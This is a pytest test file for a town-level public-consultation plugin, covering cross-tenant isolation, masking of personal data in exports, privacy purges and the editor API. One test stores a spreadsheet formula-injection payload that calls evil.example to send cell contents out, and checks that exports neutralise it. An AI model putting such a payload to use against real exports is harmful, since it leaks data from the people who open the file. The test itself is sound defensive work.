"""Another town's editor and the public cannot reach consultations, comments, answers or exports;
exports mask personal data unless the exporter may see it, and that export is audited."""
from __future__ import annotations

import io

import openpyxl
import pytest
from sqlalchemy import select

from core.audit import AuditEntry
from core.db import db
from core.tenants import tenant_by_slug, tenant_scope
from plugins.opinions import services
from tests.conftest import post_form
from tests.opinions.fixtures import comment, make_consultation


@pytest.fixture
def baishui(demo):
    with demo.app_context():
        cid = make_consultation(moderation="review")
        draft = make_consultation(state="draft", title="未发布的草稿")
        code = comment("baishui", cid, author_name="刘芳", contact="13900002222")
        with tenant_scope(tenant_by_slug("baishui")):
            comment_id = services.comment_by_code(code).id
    return {"cid": cid, "draft": draft, "code": code, "comment": comment_id}


@pytest.fixture
def liu(demo, runner):
    runner.invoke(args=["users", "create", "liu", "--password", "liuhe-password"])
    runner.invoke(args=["users", "grant", "liu", "editor", "liuhe"])
    return runner.invoke(args=["users", "token", "liu"]).output.strip().splitlines()[-1]


def test_another_towns_editor_gets_404_in_the_admin_and_the_api(demo, client, auth, baishui, liu):
    auth.login("liu", "liuhe-password")
    cid, comment_id = baishui["cid"], baishui["comment"]
    for url in (f"/admin/baishui/opinions/{cid}", f"/admin/liuhe/opinions/{cid}", f"/admin/baishui/opinions/{cid}/export.csv",
                f"/admin/liuhe/opinions/{cid}/export.xlsx", "/admin/baishui/opinions/"):
        assert client.get(url).status_code == 404, url
    response = post_form(client, "/admin/liuhe/opinions/", {"disposition": "adopted"},
                         url=f"/admin/liuhe/opinions/{cid}/comments/{comment_id}/disposition")
    assert response.status_code == 404
    headers = {"Authorization": f"Bearer {liu}"}
    for method, url, body in (
            ("put", f"/api/v1/tenants/liuhe/opinions/comments/{comment_id}/disposition", {"disposition": "adopted"}),
            ("put", f"/api/v1/tenants/baishui/opinions/comments/{comment_id}/disposition", {"disposition": "adopted"}),
            ("post", f"/api/v1/tenants/liuhe/opinions/comments/{comment_id}/moderate", {"action": "publish"}),
            ("post", f"/api/v1/tenants/liuhe/opinions/consultations/{cid}/feedback", {}),
            ("get", f"/api/v1/tenants/liuhe/opinions/consultations/{baishui['draft']}", None),
            ("get", f"/api/v1/tenants/baishui/opinions/consultations/{baishui['draft']}", None)):
        response = getattr(client, method)(url, headers=headers, json=body)
        assert response.status_code == 404, (url, response.get_json())
    with demo.app_context(), tenant_scope(tenant_by_slug("baishui")):
        assert services.comment_by_code(baishui["code"]).status == "pending"


def test_tracking_codes_and_pages_stay_in_their_tenant(demo, client, baishui):
    assert client.get(f"/qinglan/liuhe/opinions/{baishui['cid']}").status_code == 404
    assert "没有找到这个查询码" in client.get(f"/qinglan/liuhe/opinions/track?code={baishui['code']}").get_data(as_text=True)
    assert client.get(f"/api/v1/tenants/liuhe/opinions/track/{baishui['code']}").status_code == 404
    assert client.get(f"/api/v1/tenants/baishui/opinions/track/{baishui['code']}").status_code == 200


def test_exports_mask_personal_data_unless_the_exporter_may_see_it(demo, client, auth, baishui):
    cid = baishui["cid"]
    auth.login("li")  # an editor: masked
    csv_text = client.get(f"/admin/baishui/opinions/{cid}/export.csv").get_data(as_text=True)
    assert "刘*" in csv_text and "139****2222" in csv_text and "刘芳" not in csv_text
    masked = client.get(f"/admin/baishui/opinions/{cid}/export.xlsx?personal=1")  # asking is not enough
    assert "刘芳" not in str([c.value for c in openpyxl.load_workbook(io.BytesIO(masked.data)).active["F"]])
    auth.logout()
    auth.login("wang")  # the district admin may see it, and it is audited
    full = client.get(f"/admin/baishui/opinions/{cid}/export.xlsx?personal=1")
    rows = list(openpyxl.load_workbook(io.BytesIO(full.data)).active.values)
    assert rows[0][:7] == ("编号", "查询码", "提交/收到日期", "来源", "条款", "姓名", "联系方式")
    assert rows[1][5] == "刘芳" and rows[1][6] == "13900002222"
    with demo.app_context():
        entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "opinions.export.personal"))
        assert entry is not None and entry.actor_name == "wang"


def test_privacy_purge_erases_contacts_but_keeps_comments_and_answers(demo, runner):
    from datetime import timedelta

    from core.accounts import SYSTEM
    from core.clock import china_today
    from plugins.opinions.models import Consultation
    with demo.app_context():
        old = make_consultation(state="closed", title="旧征集")
        current = make_consultation(title="正在征集")
        old_code = comment("baishui", current, author_name="张三", contact="13800001111")  # noqa: F841
        with tenant_scope(tenant_by_slug("baishui")):
            c = db.session.get(Consultation, old)
            made = services.add_offline_comment(SYSTEM, c, {"source": "letter", "author_name": "李四",
                                                            "contact": "lisi@example.cn", "content": "来信：支持。"})
            services.set_disposition(SYSTEM, made, "adopted")
            db.session.commit()
            made_id = made.id
    before = (china_today() - timedelta(days=1)).isoformat()
    result = runner.invoke(args=["privacy", "purge", "--before", before])
    assert result.exit_code == 0 and "意见征集：删除 1 条意见的姓名和联系方式" in result.output
    with demo.app_context(), tenant_scope(tenant_by_slug("baishui")):
        purged = db.session.get(services.Comment, made_id)
        assert (purged.author_name, purged.contact, purged.content, purged.disposition) == ("", "", "来信：支持。", "adopted")
        kept = services.comment_by_code(old_code)
        assert kept.contact == "13800001111"  # the consultation is still open
    again = runner.invoke(args=["privacy", "purge", "--before", before])
    assert "没有需要删除的个人信息" in again.output
    with demo.app_context(), tenant_scope(tenant_by_slug("baishui")):  # entered after a purge: erased next time
        late = services.add_offline_comment(SYSTEM, db.session.get(Consultation, old),
                                            {"source": "phone", "contact": "13700003333", "content": "来电：同意。"})
        db.session.commit()
        late_id = late.id
    assert "删除 1 条" in runner.invoke(args=["privacy", "purge", "--before", before]).output
    with demo.app_context(), tenant_scope(tenant_by_slug("baishui")):
        assert db.session.get(services.Comment, late_id).contact == ""


def test_editor_api_lifecycle(demo, client, runner):
    from datetime import timedelta

    from core.clock import china_today
    token = {"Authorization": "Bearer " + runner.invoke(args=["users", "token", "li"]).output.strip().splitlines()[-1]}
    today = china_today()
    created = client.post("/api/v1/tenants/baishui/opinions/consultations", headers=token, json={
        "title": "白水镇垃圾分类实施方案（征求意见稿）", "draft_html": "<p>第一条 甲。</p><p>第二条 乙。</p>",
        "starts_on": today.isoformat(), "ends_on": (today + timedelta(days=30)).isoformat(), "moderation": "review"})
    assert created.status_code == 201, created.get_json()
    body = created.get_json()
    assert body["status"] == "draft" and [a["label"] for a in body["articles"]] == ["第一条", "第二条"]
    short = client.post("/api/v1/tenants/baishui/opinions/consultations", headers=token, json={
        "title": "短", "draft_html": "<p>甲</p>", "starts_on": today.isoformat(), "ends_on": today.isoformat()})
    assert short.status_code == 400 and "缩短期限必须说明理由" in short.get_json()["error"]
    cid = body["id"]
    assert client.post(f"/api/v1/tenants/baishui/opinions/consultations/{cid}/announce", headers=token).get_json()["status"] == "open"
    receipt = client.post(f"/api/v1/tenants/baishui/opinions/consultations/{cid}/comments",
                          json={"content": "建议增加分类垃圾桶。", "consent": True, "article_id": body["articles"][1]["id"]})
    assert receipt.status_code == 201 and receipt.get_json()["status"] == "pending"
    with demo.app_context(), tenant_scope(tenant_by_slug("baishui")):
        comment_id = services.comment_by_code(receipt.get_json()["tracking_code"]).id
    hide = client.post(f"/api/v1/tenants/baishui/opinions/comments/{comment_id}/moderate", headers=token,
                       json={"action": "hide"})
    assert hide.status_code == 400 and "说明理由" in hide.get_json()["error"]
    ok = client.post(f"/api/v1/tenants/baishui/opinions/comments/{comment_id}/moderate", headers=token,
                     json={"action": "publish"})
    assert ok.status_code == 200
    offline = client.post(f"/api/v1/tenants/baishui/opinions/consultations/{cid}/offline-comments", headers=token,
                          json={"source": "forum", "content": "座谈会：建议分步实施。"})
    assert offline.status_code == 201 and offline.get_json()["source"] == "座谈会"
    extended = client.post(f"/api/v1/tenants/baishui/opinions/consultations/{cid}/extend", headers=token,
                           json={"ends_on": (today + timedelta(days=40)).isoformat(), "reason": "增加座谈会"})
    assert extended.get_json()["extensions"][0]["reason"] == "增加座谈会"
    spec = client.get("/api/v1/openapi.json").get_json()
    assert "/api/v1/tenants/{tenant_slug}/opinions/consultations/{consultation_id}/comments" in spec["paths"]
    assert spec["paths"]["/api/v1/tenants/{tenant_slug}/opinions/comments/{comment_id}/disposition"]["put"]["security"]


def test_exports_never_run_formulas_and_huge_ids_are_refused(demo, client, auth, runner):
    with demo.app_context():
        cid = make_consultation()
        comment("baishui", cid, content='=HYPERLINK("http://evil.example/?"&A1,"点击查看")')
    auth.login("li")
    wb = openpyxl.load_workbook(io.BytesIO(client.get(f"/admin/baishui/opinions/{cid}/export.xlsx").data))
    cell = wb.active["H2"]
    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK")   # text, and neutralised like the CSV (issue 17)
    csv_text = client.get(f"/admin/baishui/opinions/{cid}/export.csv").get_data(as_text=True)
    assert "'=HYPERLINK" in csv_text
    token = {"Authorization": "Bearer " + runner.invoke(args=["users", "token", "li"]).output.strip().splitlines()[-1]}
    for url, body in ((f"/api/v1/tenants/baishui/opinions/consultations/{cid}/groups",
                       {"title": "甲", "comment_ids": [2**70, 1], "disposition": "adopted"}),
                      (f"/api/v1/tenants/baishui/opinions/consultations/{cid}/comments",
                       {"content": "建议增加停车位。", "consent": True, "article_id": 2**70})):
        response = client.post(url, headers=token, json=body)
        assert response.status_code == 400, response.get_json()
